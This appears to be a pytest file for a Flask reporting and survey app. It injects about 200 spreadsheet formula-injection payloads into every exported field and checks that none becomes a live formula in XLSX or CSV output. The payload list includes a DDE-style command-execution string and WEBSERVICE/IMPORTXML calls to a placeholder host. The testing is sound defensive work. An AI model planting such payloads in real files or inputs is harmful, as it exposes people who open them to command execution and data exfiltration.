"""What people type is calculated in no file: 200 payloads in every text of every export.

Payloads go into every text column of every row at once, in turn; `pytest --long
tests/shape/test_formulas.py` puts every payload into each. What no column holds (lists that were
sent in, questions and answers of surveys) takes all of them at once.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import zipfile
from dataclasses import dataclass
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from companion.applications.sheets import mark_refused, read_challenges, read_officials
from companion.core.access import Role
from companion.core.db import db
from companion.core.sheets import read_workbook
from companion.core.sheets.writer import Column, add_sheet, new_book, save_bytes, write_table
from companion.periods.models import Period
from companion.reports.actions import Wanted, build_report
from companion.reports.files import make_file
from companion.reports.models import TemplateVersion
from companion.reports.packs import PACKS
from companion.reports.templating import fill_template
from companion.reports.terms import FileType
from companion.surveys.answerform import answer_form
from companion.surveys.formseal import Seal
from companion.surveys.xlsformwriting import xlsform_book
from tests.applications.lists import CHALLENGE, OFFICIAL, REFERENCE
from tests.kit.pages import Browser
from tests.shape.crawl import Address, asked_by, fill, numbered, turns
from tests.shape.test_access import world  # noqa: F401 the fixture
from tests.shape.world import World
from tests.surveys.makers import small

pytestmark = pytest.mark.sqlite_only

FORMULAS = [
    start + body
    for start in (
        "=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\u3000＝", "\u00a0=", "\t=", "'=", '"=',
        "\n=", ";=", ",=", "%0A=", "=+", "=-",
    )
    for body in (
        "1+1zq", 'HYPERLINK("http://zq.invalid","x")', "cmd|' /C calc'!A0zq", "SUM(A1:A2)*9&zq",
        '"zq"&"b"', 'IMPORTXML("http://zq.invalid","//a")', 'WEBSERVICE("http://zq.invalid/"&A1)',
        'DDE("zq","x")', "zq!A1", "IF(TRUE,zq,1)",
    )
]  # fmt: skip


def live_formulas(app: Flask, made: World, offsets: range) -> list[str]:
    """Cells of exports in which a payload would be calculated; each offset moves them on by one.

    Files that show no payload at all in the first round are left out of the others.
    """
    found: list[str] = []
    roles = (Role.COORDINATOR, Role.OFFICIAL, Role.MUNICIPALITY, Role.AUDITOR)
    browsers = {role: Browser(app).sign_in_as(made.users[role]) for role in roles}
    periods = list(db.session.scalars(select(Period)))
    files: list[Address] = []
    reports = [
        (period, Wanted(pack.id, edition), kind)
        for period in periods
        for pack in PACKS.values()
        for edition in pack.editions
        for kind in (FileType.XLSX, FileType.CSV, FileType.CSV_CP932)
    ]
    for number, offset in enumerate(offsets):
        fill(numbered(FORMULAS, offset))
        if number:
            answers = [(at, browsers[at[0]].raw(at[1], at[2])) for at in files]
        else:
            answers = list(asked_by(app, made, browsers))
        for at, answer in answers:
            if "sheet" in answer.mimetype or answer.mimetype == "text/csv":
                cells = cells_of(answer.get_data())
                if not number and any(_is_ours(cell) for cell in cells):
                    files.append(at)
                found += [f"{at} {offset}: {cell}" for cell in live_in(cells)]
        built = {(period, wanted): build_report(period, wanted) for period, wanted, _ in reports}
        showing = []
        for period, wanted, kind in reports:
            cells = cells_of(make_file(built[period, wanted], kind).data)
            if any(_is_ours(cell) for cell in cells):
                showing.append((period, wanted, kind))
            found += [f"{wanted} {kind} {offset}: {cell}" for cell in live_in(cells)]
        if number == 0:
            assert len(reports) >= 40, len(reports)
            reports = showing
        for version in db.session.scalars(select(TemplateVersion)):
            report = build_report(version.template.period, Wanted(version.template.pack))
            cells = cells_of(fill_template(report, version).data)
            found += [f"template {version.id} {offset}: {cell}" for cell in live_in(cells)]
    assert len(files) >= 4
    assert len(reports) > 10, reports
    return found


@dataclass(frozen=True)
class Cell:
    """What stands in a cell of a file; `is_formula` says that a workbook calculates it."""

    text: str
    is_formula: bool = False


def _is_ours(cell: Cell) -> bool:
    return "zq" in cell.text


# Where a workbook holds what is calculated: cells, names, rules of formats and of input, charts.
CALCULATED = re.compile(
    r"<(?:\w+:)?(?:f|formula|formula1|formula2|definedName)(?:\s[^>]*)?>([^<]*)<"
)
SHOWN = re.compile(r"<(?:\w+:)?t(?:\s[^>]*)?>([^<]*)<")


def cells_of(data: bytes) -> list[Cell]:
    """What stands in a workbook, a CSV or an archive of CSVs."""
    if not data.startswith(b"PK"):
        return _cells_of_csv(data)
    found: list[Cell] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                found += _cells_of_csv(archive.read(name))
            elif name.endswith(".xml"):
                part = archive.read(name).decode()
                found += [Cell(html.unescape(text), True) for text in CALCULATED.findall(part)]
                found += [Cell(html.unescape(text)) for text in SHOWN.findall(part)]
    return found


def _cells_of_csv(data: bytes) -> list[Cell]:
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        text = data.decode("cp932")
    rows = csv.reader(io.StringIO(text, newline=""))
    return [Cell(cell, is_formula=_is_unguarded(cell)) for row in rows for cell in row]


def _is_unguarded(cell: str) -> bool:
    """Whether a table program calculates this cell of a CSV."""
    return cell.lstrip(" \u00a0\u3000\t\r\n").startswith(tuple("=+-@＝＋－＠"))


def live_in(cells: list[Cell]) -> list[str]:
    """The payloads that are calculated."""
    return [cell.text for cell in cells if cell.is_formula and _is_ours(cell)]


@pytest.mark.parametrize("number", range(2))
def test_no_payload_becomes_a_formula(
    app: Flask,
    world: World,  # noqa: F811
    number: int,
    request: pytest.FixtureRequest,
) -> None:
    assert len(FORMULAS) >= 200
    assert live_formulas(app, world, turns(request, number, FORMULAS)) == []


def held_as_text(data: bytes) -> int:
    """How many cells of a workbook hold a payload, none of which is calculated."""
    cells = cells_of(data)
    assert live_in(cells) == []
    return sum(_is_ours(cell) for cell in cells)


@pytest.mark.parametrize(
    ("like", "read"), [(CHALLENGE, read_challenges), (OFFICIAL, read_officials)]
)
def test_a_list_that_goes_back_calculates_nothing_that_was_sent(
    like: dict[str, Any], read: Any
) -> None:
    book = new_book("x")
    rows = [[payload for _ in like] for payload in FORMULAS]
    write_table(add_sheet(book, "一覧"), [Column(name) for name in like], rows)
    data = save_bytes(book, at=dt.datetime(2025, 9, 2, tzinfo=dt.UTC))
    faults = read(read_workbook(data), reference=REFERENCE).refused
    assert len(faults) >= len(FORMULAS)
    assert held_as_text(mark_refused(data, faults)) >= len(FORMULAS) + len(faults)


def test_a_survey_that_goes_out_calculates_neither_question_nor_answer() -> None:
    words = [json.dumps(payload.strip(), ensure_ascii=False) for payload in FORMULAS]
    asked = [
        f"- {{name: q{n}, type: text, label: {word}, hint: {word}}}\n"
        f"- {{name: c{n}, type: single, label: {word},"
        f" choices: [{{name: a, label: {word}}}, {{name: b, label: b}}]}}"
        for n, word in enumerate(words)
    ]
    defn = small("\n".join(asked), extra=f"title_en: {words[0]}\n")
    form = answer_form(
        defn,
        Seal("round", "version", "somebody", "2025-09-02"),
        "a secret of the tests",
        addressee=FORMULAS[0],
        due_at=dt.datetime(2025, 9, 19, 9, 0, tzinfo=dt.UTC),
        due_words=FORMULAS[0],
        promise=FORMULAS[0],
        answers={f"q{n}": payload for n, payload in enumerate(FORMULAS)},
    )
    assert held_as_text(form) >= 3 * len(FORMULAS)
    assert held_as_text(xlsform_book(defn)) >= 4 * len(FORMULAS)
